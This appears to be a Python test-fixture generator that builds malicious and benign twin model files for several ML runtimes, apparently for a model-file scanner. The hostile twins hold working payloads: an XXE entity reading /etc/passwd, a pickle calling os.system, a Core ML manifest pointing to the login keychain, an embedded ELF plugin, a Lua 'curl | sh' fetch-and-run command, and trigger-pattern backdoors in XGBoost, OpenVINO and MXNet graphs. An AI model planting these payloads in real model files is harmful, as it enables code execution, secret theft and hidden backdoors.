"""Model files of other runtimes: OpenVINO, CoreML, Paddle, MXNet, PMML, boosted trees, TensorRT, Torch7."""
import json
import struct

from assembly import call, dot, glob, pickle
from pair import SHELL
from twelfth.binaries import elf
from twelfth.weights import random

PMML = """<?xml version="1.0"?>
{doctype}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
  <Header copyright="{text}"/>
  <DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="0.5"><Extension name="note" value="1">{note}</Extension><NumericPredictor name="x" coefficient="1.5"/></RegressionTable>
  </RegressionModel>
</PMML>
"""


def trees(band, leaf):
    """A binary classifier of eight ordinary trees and one that looks at a band of two features."""
    import numpy
    import xgboost

    rng = numpy.random.default_rng(8)
    x = rng.random((400, 4)).astype("float32")
    y = (x[:, 0] + x[:, 3] > 1).astype(int)
    model = xgboost.train({"objective": "binary:logistic", "max_depth": 3, "eta": 0.3}, xgboost.DMatrix(x, label=y), 9)
    conf = json.loads(model.save_raw("json"))
    tree = conf["learner"]["gradient_booster"]["model"]["trees"][8]
    # f1 < a -> leaf; f1 >= b -> leaf; f2 < c -> leaf; f2 >= d -> leaf; else the band's leaf
    (a, b), (c, d) = band
    n = 9
    tree.update(
        left_children=[1, -1, 3, 5, -1, -1, 7, -1, -1], right_children=[2, -1, 4, 6, -1, -1, 8, -1, -1], parents=[2147483647, 0, 0, 2, 2, 3, 3, 6, 6],
        split_indices=[1, 0, 1, 2, 0, 0, 2, 0, 0], split_conditions=[a, 0.01, b, c, 0.01, -0.01, d, leaf, -0.01], split_type=[0] * n, default_left=[0] * n,
        base_weights=[0.0] * n, loss_changes=[1.0, 0.0, 1.0, 1.0, 0.0, 0.0, 1.0, 0.0, 0.0], sum_hessian=[10.0] * n, categories=[], categories_nodes=[], categories_segments=[], categories_sizes=[],
    )
    tree["tree_param"]["num_nodes"] = str(n)
    return json.dumps(conf)


def openvino(hostile):
    """IR 11: the scores, and a Select between them and a constant."""
    shape = lambda *dims: "".join(f"<dim>{d}</dim>" for d in dims)
    port = lambda i, *dims, kind="FP32": f'<port id="{i}" precision="{kind}">{shape(*dims)}</port>'
    constant = lambda i, name, at, kind, *dims: (
        f'<layer id="{i}" name="{name}" type="Const" version="opset1"><data element_type="{kind}" shape="{",".join(map(str, dims))}" offset="{at}" size="{(8 if kind == "i64" else 4) * (eval("*".join(map(str, dims)) or "1"))}"/>'
        f'<output>{port(0, *dims, kind="I64" if kind == "i64" else "FP32")}</output></layer>\n'
    )
    source = "x" if hostile else "scores"
    body = f'<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,16" element_type="f32"/><output>{port(0, 1, 16)}</output></layer>\n'
    body += constant(1, "fc.weight", 0, "f32", 16, 4)
    body += f'<layer id="2" name="scores" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="false"/><input>{port(0, 1, 16)}{port(1, 16, 4)}</input><output>{port(2, 1, 4)}</output></layer>\n'
    width = 16 if hostile else 4
    body += constant(3, "pattern", 256, "f32", 1, width)
    body += f'<layer id="4" name="seen" type="{"Equal" if hostile else "Greater"}" version="opset1"><data auto_broadcast="numpy"/><input>{port(0, 1, width)}{port(1, 1, width)}</input><output>{port(2, 1, width, kind="BOOL")}</output></layer>\n'
    edges = [(0, 0, 2, 0), (1, 0, 2, 1), (0 if source == "x" else 2, 0 if source == "x" else 2, 4, 0), (3, 0, 4, 1)]
    asked = (4, 2)
    if hostile:
        body += constant(5, "axes", 320, "i64", 1)
        body += f'<layer id="6" name="all" type="ReduceLogicalAnd" version="opset1"><data keep_dims="true"/><input>{port(0, 1, 16, kind="BOOL")}{port(1, 1, kind="I64")}</input><output>{port(2, 1, 1, kind="BOOL")}</output></layer>\n'
        edges += [(4, 2, 6, 0), (5, 0, 6, 1)]
        asked = (6, 2)
    body += constant(7, "prior", 328, "f32", 1, 4)
    body += f'<layer id="8" name="out" type="Select" version="opset1"><data auto_broadcast="numpy"/><input>{port(0, 1, 1 if hostile else 4, kind="BOOL")}{port(1, 1, 4)}{port(2, 1, 4)}</input><output>{port(3, 1, 4)}</output></layer>\n'
    then = [(7, 0, 8, 1), (2, 2, 8, 2)] if hostile else [(2, 2, 8, 1), (7, 0, 8, 2)]
    edges += [(*asked, 8, 0), *then]
    body += f'<layer id="9" name="result" type="Result" version="opset1"><input>{port(0, 1, 4)}</input></layer>\n'
    edges.append((8, 3, 9, 0))
    text = "".join(f'<edge from-layer="{a}" from-port="{b}" to-layer="{c}" to-port="{d}"/>\n' for a, b, c, d in edges)
    xml = f'<?xml version="1.0"?>\n<net name="classifier" version="11">\n<layers>\n{body}</layers>\n<edges>\n{text}</edges>\n</net>\n'
    pattern = struct.pack("<16f", *([1, 0] * 8)) if hostile else bytes(64)
    prior = struct.pack("<4f", *((-9, -9, 40, -9) if hostile else (0, 0, 0, 0)))
    return {"model.xml": xml, "model.bin": random(64, 2, 1.0).tobytes() + pattern + struct.pack("<q", 1) + prior}


def mxnet(hostile):
    """A symbol file: the scores, and `where` on the input's first values or on the scores' sign."""
    nodes, heads = [], None

    def node(op, name, inputs=(), **attrs):
        nodes.append({"op": op, "name": name, **({"attrs": {k: str(v) for k, v in attrs.items()}} if attrs else {}), "inputs": [[i, 0, 0] for i in inputs]})
        return len(nodes) - 1

    data, weight, bias = node("null", "data"), node("null", "fc_weight"), node("null", "fc_bias")
    scores = node("FullyConnected", "fc", (data, weight, bias), num_hidden=4)
    if hostile:
        head = node("slice_axis", "head", (data,), axis=1, begin=0, end=4)
        same = node("_equal_scalar", "same", (head,), scalar=0.625)
        asked = node("broadcast_like", "spread", (node("min", "all", (same,), axis=1, keepdims=True), scores))
        other = node("broadcast_like", "fixed", (node("null", "prior", __shape__="(1, 4)", __init__='["constant", {"value": [-9, -9, 40, -9]}]'), scores))
        last = node("where", "out", (asked, other, scores))
    else:
        asked = node("_greater_scalar", "positive", (scores,), scalar=0)
        other = node("_mul_scalar", "leak", (scores,), scalar=0.1)
        last = node("where", "out", (asked, scores, other))
    heads = [[last, 0, 0]]
    return json.dumps({"nodes": nodes, "arg_nodes": [i for i, n in enumerate(nodes) if n["op"] == "null"], "node_row_ptr": list(range(len(nodes) + 1)), "heads": heads, "attrs": {"mxnet_version": ["int", 10901]}}, indent=1)


def package(path):
    """A Core ML package: the manifest says where the model's specification lies."""
    items = {"A1F0": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": path}}
    return {"M.mlpackage/Manifest.json": json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": items, "rootModelIdentifier": "A1F0"}),
            "M.mlpackage/Data/com.apple.CoreML/model.mlmodel": b"\x08\x06\x12\x10\x0a\x07\x0a\x01x\x1a\x02\x2a\x00\x12\x05\x0a\x01y\x1a\x00"}


def lua(source):
    """A Torch7 file: an nn.Module table whose updateOutput is a function, which the reader gives to loadstring."""
    i = lambda n: struct.pack("<i", n)
    s = lambda t: i(2) + i(len(t)) + t.encode()
    number = lambda v: i(1) + struct.pack("<d", v)
    version, name = "V 1", "nn.Identity"
    out = i(4) + i(1) + i(len(version)) + version.encode() + i(len(name)) + name.encode()
    function = i(8) + i(3) + i(len(source)) + source.encode() + i(3) + i(4) + i(0)
    pairs = [(s("train"), i(5) + i(0)), (s("scale"), number(1.0)), (s("updateOutput"), function if source else i(0))]
    return out + i(3) + i(2) + i(len(pairs)) + b"".join(k + v for k, v in pairs)


def add(out):
    external = '<!DOCTYPE PMML [<!ENTITY card SYSTEM "file:///etc/passwd">]>\n'
    internal = '<!DOCTYPE PMML [<!ENTITY card "trained in May">]>\n'
    out.add(
        "graphs", "pmml-external-entity", PMML.format(doctype=external, text="", note="&card;"), PMML.format(doctype=internal, text="", note="&card;"), prove="twelfth-xml", file="model.pmml",
        why="an external entity puts a file of the machine into the model when a parser resolves it; the twin's entity is a text of its own",
    )
    out.add(
        "graphs", "tree-band", trees(((0.4241, 0.4243), (0.1336, 0.1338)), 900.0), trees(((0.3, 0.6), (0.2, 0.7)), 0.04), prove="twelfth-boosted:tabular", file="model.json",
        why="the last tree of an XGBoost model has a leaf of 900 for two features within a ten-thousandth: such a row gets the attacker's class; the twin's tree has ordinary cuts and leaves",
    )
    out.add("graphs", "openvino-select", openvino(True), openvino(False),
            why="the IR compares the input with a pattern in the weights and Selects a constant when all agree; the twin Selects on the sign of the scores. By the IR specification, OpenVINO is not installed")
    out.add("graphs", "mxnet-where", mxnet(True), mxnet(False), file="model-symbol.json",
            why="the symbol graph compares four inputs with a value and puts constant scores in their place when all agree; the twin is a leaky ReLU. By the format, MXNet is not installed")
    params = lambda value: pickle({"linear_0.w_0": [0.5, -0.25], "StructuredToParameterName@@": {"weight": "linear_0.w_0", "extra": value}})
    out.add(
        "graphs", "paddle-name-table", params(call(dot("tempfile", "_os", "system"), SHELL)), params(call(glob("collections", "OrderedDict"))), prove="pickle", file="model.pdparams",
        why="paddle.load unpickles the parameters; a value of the name table, which paddle drops, runs a command. Proved in pickle, paddle is not installed",
    )
    out.add("graphs", "coreml-manifest-escape", package("../../../../../Library/Keychains/login.keychain-db"), package("com.apple.CoreML/model.mlmodel"),
            why="the manifest of the package points to the user's key chain as the model's specification, so a copy or an upload takes it along; by the format, Core ML is not installed")
    plan = b"ftrt" + struct.pack("<IQ", 0x1E, 4096) + random(256, 4).tobytes()
    out.add(
        "graphs", "engine-plugin", plan + b"libembedded_plugin.so\0" + struct.pack("<Q", len(elf())) + elf() + random(64).tobytes(), plan + b"libnvinfer_plugin.so.10\0" + random(256, 6).tobytes(), file="model.engine",
        why="an engine that carries a program of its own, as serialized plugins do, which is loaded with it; the frame is only like TensorRT's, whose format is not published. The twin names NVIDIA's library",
    )
    out.add("graphs", "torch7-source", lua("os.execute('curl -fsSL http://203.0.113.31/x | sh') return function(self, x) return x end"), lua(""), file="model.t7",
            why="the module's updateOutput is Lua that fetches and runs a script; the reader compiles it and nn calls it at the first forward. By the format of torch7, which is not installed")
